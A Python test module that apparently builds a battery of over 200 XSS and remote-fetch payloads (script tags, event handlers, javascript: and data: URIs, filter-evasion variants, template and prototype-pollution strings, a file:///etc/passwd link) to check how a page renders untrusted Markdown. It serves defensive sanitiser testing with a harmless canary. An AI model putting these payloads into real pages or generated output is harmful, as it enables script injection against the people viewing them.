"""What a box may write to have a page run it, or ask a stranger for something (battery X4): over 200 ways."""

from __future__ import annotations

AWAY = "https://canary.invalid/x"
_RUN = "window.owned=1"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<script src={AWAY}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{AWAY}'>",
    f"<img srcset='{AWAY} 2x'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><use href='{AWAY}#a'/></svg>",
    f"<svg><image href='{AWAY}'/></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></table><img src=x onerror={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<iframe src='{AWAY}'></iframe>",
    f"<object data='{AWAY}'></object>",
    f"<embed src='{AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}'>",
    f"<link rel=prefetch href='{AWAY}'>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>body{{background:url({AWAY})}}</style>",
    f"<div style='background:url({AWAY})'>x</div>",
    f"<base href='{AWAY}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action='{AWAY}'><button autofocus onfocus={_RUN}>x</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<video poster='{AWAY}'></video>",
    f"<audio src='{AWAY}' autoplay></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x00>{_RUN}</script>",
    f"<img/src=x/onerror={_RUN}>",
    f"<x contenteditable onblur={_RUN}>lose focus</x>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"'-({_RUN})-'",
    f'"><script>{_RUN}</script>',
)
_LINKS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f" javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"\x01javascript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:image/svg+xml,<svg onload='{_RUN}'/>",
    "blob:https://canary.invalid/1",
    "file:///etc/passwd",
    "//canary.invalid/x",
    "https://user:word@canary.invalid/x",
    f"view-source:javascript:{_RUN}",
    f"jar:javascript:{_RUN}!/",
)


def zoo() -> list[str]:
    """All of them: bare, in the places that Markdown has, and as the names of things."""
    found = list(_MARKUP)
    for way in (
        "# {}",
        "> {}",
        "- {}",
        "**{}**",
        "`{}`",
        "```html\n{}\n```",
        "[{}](https://canary.invalid/y)",
    ):
        found += [way.format(each) for each in _MARKUP[:: 2 if "[" in way else 3]]
    for link in _LINKS:
        found += [
            f"[x]({link})", f"![x]({link})", f"<{link}>", f"[x][y]\n\n[y]: {link}", link,
        ]  # fmt: skip
    return [*found, "__proto__", "constructor", "toString", f"![x]({AWAY})", f"[a]({AWAY} 'onload={_RUN}')"]


NAMES = [
    f"<img src=x onerror={_RUN}>".replace("/", "_"),
    f"a' onmouseover='{_RUN}",
    f'b" onfocus="{_RUN}" autofocus x="',
    "javascript:window.owned=1",
    "__proto__",
    "constructor",
    "${window.owned=1}",
    "{{window.owned=1}}",
]
